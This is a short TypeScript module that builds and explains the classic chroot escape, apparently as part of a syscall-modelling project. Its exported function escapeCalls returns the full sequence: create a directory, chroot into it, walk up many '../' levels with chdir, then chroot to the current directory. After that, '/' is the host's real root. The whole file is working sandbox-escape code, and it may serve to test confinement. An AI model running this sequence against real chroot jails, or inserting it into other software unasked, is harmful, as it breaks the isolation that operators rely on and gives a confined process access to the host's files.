// The way out of a chroot that is as old as chroot itself.
//
// chroot(2) changes one thing: where a path that begins with `/` starts, and where `..` stops. It does not move
// the current directory. A process that stands outside its root never meets the place where `..` would stop.

import * as C from '../syscall/constants.ts'
import { mkdirat } from '../syscall/file.ts'
import { chdir, chroot } from '../syscall/mount.ts'
import { allowing, type Syscall } from '../syscall/syscall.ts'

/**
 * The calls by which root leaves a chroot; afterwards `/` is the host's root. It takes the capability CAP_SYS_CHROOT
 * and leaves an empty directory behind.
 * @param directory a name that is free, inside the chroot
 * @param depth at least the number of directories between the two roots; more do no harm
 */
export function escapeCalls(directory = 'way-out', depth = 32): Syscall[] {
  return [
    allowing('EEXIST', mkdirat(C.AT_FDCWD, directory, 0o755)),
    // the root moves down, the current directory does not: we now stand above our own root
    chroot(directory),
    // no `/` in front: the walk starts where we stand, and nothing stops it before the real root
    chdir('../'.repeat(depth)),
    chroot('.'),
  ]
}
